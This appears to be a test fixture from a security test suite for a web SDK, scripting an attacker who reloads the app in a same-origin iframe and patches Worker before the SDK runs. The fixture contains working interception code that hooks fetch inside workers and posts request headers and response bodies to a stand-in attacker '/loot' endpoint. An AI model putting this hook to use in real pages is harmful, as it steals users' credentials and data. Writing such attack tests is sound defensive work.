// A real attacker: comes after the SDK, but makes a new start: writes the application into a frame of the same origin
// and patches `Worker` there before the SDK runs in it.
export default {
  row: "patch-before",
  expected: ["wins", "loses"],
  after: async ({ own, page, evil }) => {
    const spy = (script, evil) => `
      const own = self.fetch;
      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
      self.fetch = async (url, init) => {
        home([...new Headers(init?.headers)].join());
        const response = await own.call(self, url, init);
        response.clone().text().then(home);
        return response;
      };
      importScripts("${script}");`;
    const html = await (await fetch(own + page)).text();
    const frame = document.createElement("iframe");
    document.body.append(frame);
    frame.contentDocument.open();
    const { Worker } = frame.contentWindow;
    frame.contentWindow.Worker = class extends Worker {
      constructor(script, options) {
        const blob = new Blob([spy(String(script), evil)], { type: "text/javascript" });
        super(URL.createObjectURL(blob), options);
      }
    };
    frame.contentDocument.write(html);
    frame.contentDocument.close();
    for (let i = 0; i < 200 && !frame.contentWindow.app?.done; i++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    await frame.contentWindow.app.call("/v1/me");
    await new Promise((resolve) => setTimeout(resolve, 300));
    return frame.contentWindow.app.error ?? "opened";
  },
};
